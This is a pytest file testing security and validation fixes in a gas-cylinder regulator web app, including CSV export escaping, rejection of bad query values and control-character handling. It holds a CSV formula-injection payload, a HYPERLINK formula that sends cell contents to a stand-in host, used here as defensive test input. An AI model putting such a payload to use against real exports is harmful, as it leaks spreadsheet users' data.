"""Fixes after a review: CSV cells that cannot run as formulas, bad query values answered
with a 400 page, multi-line public reports, holds from reports on relabelled codes, the
report queue a page at a time, and no report form for a code that cannot be one."""

from __future__ import annotations

import csv
import html as htmlib
import io
import re
from typing import Any

import pytest

from tests import flows
from tests.conftest import bearer
from tests.integration.cycle import OK, on_truck
from tests.pages.conftest import csrf_of, field

FORMULA = '=HYPERLINK("http://x.example/?"&A2,"详情")'


def _refused_delivery_to(client: Any, demo: Any, name: str) -> str:
    resp = client.post(
        "/api/v1/customers",
        json={"name": name, "kind": "restaurant", "address": "渝北区1号", "basement": False},
        headers=bearer(demo["tokens"]["enterprise_a"]),
    )
    assert resp.status_code == 201, resp.get_json()
    code = on_truck(client, demo)
    payload = {"customer_id": resp.get_json()["id"], "checklist": {**OK, "hose": False}}
    resp = flows.event(client, demo, code, "driver_a", "delivered", payload)
    assert resp.status_code == 409, resp.get_json()
    return code


def _csv_rows(resp: Any) -> list[list[str]]:
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))


def test_a_formula_in_a_customer_name_is_exported_as_text(
    client: Any, demo: Any, as_person: Any
) -> None:
    code = _refused_delivery_to(client, demo, FORMULA)
    other = _refused_delivery_to(client, demo, "-1+1")
    regulator = as_person("regulator")
    rows = {r[1]: r for r in _csv_rows(regulator.get("/regulator/refused.csv"))[1:]}
    assert rows[code][7] == "'" + FORMULA + "（渝北区1号）"
    assert rows[other][7] == "'-1+1（渝北区1号）"
    assert rows[code][0][:1].isdigit()  # dates and codes untouched


def test_numbers_in_a_csv_stay_numbers(client: Any, demo: Any, as_person: Any) -> None:
    code = flows.register(client, demo, who="enterprise_b")
    flows.check(client, demo, code, "a")
    rows = _csv_rows(as_person("regulator").get("/regulator/blocked.csv"))
    row = next(r for r in rows[1:] if r[1] == code)
    assert row[2].isdigit()  # the station's id, not '5


BAD_URLS = [
    "/regulator/cylinders/overdue?page=²",
    "/regulator/cylinders/overdue?page=-1",
    "/regulator/blocked?days=²",
    "/regulator/refused?days=²",
    "/regulator/refused?page=1e3",
    "/regulator/cylinders/stale.csv?days=²",
    "/regulator/cylinders/short-weight?days=１２",  # full-width digits
    "/regulator/blocked?station=99999999999999999999999",
    "/regulator/blocked.csv?station=99999999999999999999999",
    "/regulator/blocked.csv?station=²",
    "/regulator/refused.csv?days=99999999999999999999999",
    "/regulator/reports?page=²",
]


@pytest.mark.parametrize("url", BAD_URLS)
def test_a_bad_query_value_is_a_400_page_in_chinese(as_person: Any, url: str) -> None:
    resp = as_person("regulator").get(url)
    text = resp.get_data(as_text=True)
    assert resp.status_code == 400, text[:300]
    assert resp.mimetype == "text/html"  # never JSON, never a CSV cut short
    assert not text.startswith("\ufeff")
    assert "不是有效的数字" in text


def test_good_query_values_still_work(client: Any, demo: Any, as_person: Any) -> None:
    code = flows.register(client, demo, who="enterprise_b")
    flows.check(client, demo, code, "a")
    regulator = as_person("regulator")
    for url in (
        "/regulator/blocked?days=7&station=&page=1",
        "/regulator/blocked?days=99999",  # capped, not refused
        "/regulator/cylinders/overdue?page=999999999",
        "/regulator/refused?days=0",
    ):
        assert regulator.get(url).status_code == 200, url
    rows = _csv_rows(regulator.get("/regulator/blocked.csv?days=999999999&station="))
    assert any(r[1] == code for r in rows[1:])


def _send(client: Any, code: str, note: str, kind: str = "leak") -> Any:
    page = client.get(f"/c/{code}").get_data(as_text=True)
    data = {"csrf_token": csrf_of(page), "token": field(page, "token"), "kind": kind}
    return client.post(f"/c/{code}/report", data={**data, "note": note})


def test_a_multi_line_report_is_filed_with_its_line_breaks(
    client: Any, demo: Any, as_person: Any
) -> None:
    code = flows.register(client, demo)
    resp = _send(client, code, "瓶阀漏气\r\n请联系\r物业\t二楼")
    assert resp.status_code == 302, resp.get_data(as_text=True)[:500]
    queue = as_person("regulator").get("/regulator/reports").get_data(as_text=True)
    assert "瓶阀漏气\n请联系\n物业\t二楼" in queue


def test_a_refused_note_is_shown_again_with_an_accurate_message(client: Any, demo: Any) -> None:
    code = flows.register(client, demo)
    resp = _send(client, code, "瓶阀漏气\x07请联系", kind="damaged")
    page = resp.get_data(as_text=True)
    assert resp.status_code == 422
    assert "控制字符" in page and "500" not in page.split('id="report"')[0]
    assert "瓶阀漏气\x07请联系" in htmlib.unescape(page)  # what was typed, in the form again
    assert '<option value="damaged" selected>' in page
    assert 'id="report-form"' in page and "可以使用" in page
    long = _send(client, code, "漏" * 501)
    assert long.status_code == 422 and "说明最多500个字符" in long.get_data(as_text=True)
    assert "漏" * 501 in long.get_data(as_text=True)
    again = client.post(
        f"/c/{code}/report",
        data={"csrf_token": csrf_of(page), "token": field(page, "token"), "kind": "leak"},
    )
    assert again.status_code == 302  # the form shown again can be sent


def test_holding_from_a_report_on_a_relabelled_code_holds_the_cylinder(
    client: Any, demo: Any, as_person: Any
) -> None:
    old = flows.register(client, demo)
    new = "RL" + old[:10]
    resp = flows.event(client, demo, old, "enterprise_a", "relabelled", {"new_code": new})
    assert resp.status_code == 201, resp.get_json()
    assert _send(client, old, "旧标签还在用", kind="suspected_fake").status_code == 302
    regulator = as_person("regulator")
    queue = regulator.get("/regulator/reports").get_data(as_text=True)
    report_id = re.search(r'id="report-(\d+)"', queue).group(1)  # type: ignore[union-attr]
    resp = regulator.post(
        f"/regulator/reports/{report_id}",
        data={"csrf_token": csrf_of(queue), "action": "hold", "note": "核查"},
    )
    assert resp.status_code == 302
    assert [e["type"] for e in flows.history(client, demo, new)][-1] == "held"
    assert f'id="report-{report_id}"' not in regulator.get("/regulator/reports").get_data(
        as_text=True
    )
    assert "禁止使用" in client.get(f"/c/{new}").get_data(as_text=True)


def test_the_report_queue_is_paged_and_counts_every_open_report(
    client: Any, demo: Any, app: Any, as_person: Any
) -> None:
    app.config["LIST_PAGE_SIZE"] = 2
    code = flows.register(client, demo)
    for n in range(3):
        assert _send(client, code, f"第{n}条").status_code == 302
    regulator = as_person("regulator")
    first = regulator.get("/regulator/reports").get_data(as_text=True)
    second = regulator.get("/regulator/reports?status=open&page=2").get_data(as_text=True)
    assert 'data-total="3"' in first
    assert first.count('id="report-') == 2 and second.count('id="report-') == 1
    assert "第2条" in first and "第1条" in first and "第0条" in second
    assert 'id="next-page"' in first and 'id="prev-page"' in second


def test_no_report_form_for_a_code_that_cannot_be_one(client: Any) -> None:
    resp = client.get("/c/ＡＢＣ１２３")
    assert resp.status_code == 404
    assert 'id="report-form"' not in resp.get_data(as_text=True)
    assert 'id="report-form"' in client.get("/c/NOSUCHCODE1").get_data(as_text=True)


def test_a_licence_with_a_superscript_station_is_refused_not_a_500(
    demo: Any, as_person: Any
) -> None:
    regulator = as_person("regulator")
    page = regulator.get("/regulator/enterprises").get_data(as_text=True)
    enterprise = re.search(r'id="e(\d+)"', page).group(1)  # type: ignore[union-attr]
    resp = regulator.post(
        f"/regulator/enterprises/{enterprise}/licences",
        data={
            "csrf_token": csrf_of(page),
            "once": field(page, "once"),
            "kind": "filling",
            "number": "P²",
            "valid_from": "2025-01-01",
            "valid_until": "2030-01-01",
            "station_id": "²",
        },
    )
    assert resp.status_code == 302  # back to the page with the ledger's message, no 500


def test_a_review_note_with_a_control_character_changes_nothing(
    client: Any, demo: Any, as_person: Any
) -> None:
    code = flows.register(client, demo)
    assert _send(client, code, "气味很重").status_code == 302
    regulator = as_person("regulator")
    queue = regulator.get("/regulator/reports").get_data(as_text=True)
    report_id = re.search(r'id="report-(\d+)"', queue).group(1)  # type: ignore[union-attr]
    url = f"/regulator/reports/{report_id}"
    form = {"csrf_token": csrf_of(queue), "action": "review"}
    bad = regulator.post(url, data={**form, "note": "已核查\x1b[31m"}, follow_redirects=True)
    assert "控制字符" in bad.get_data(as_text=True)
    assert f'id="report-{report_id}"' in regulator.get("/regulator/reports").get_data(
        as_text=True
    )  # still open
    done = regulator.post(url, data={**form, "note": "已核查\r\n无异常"})
    assert done.status_code == 302
    assert f'id="report-{report_id}"' not in regulator.get("/regulator/reports").get_data(
        as_text=True
    )
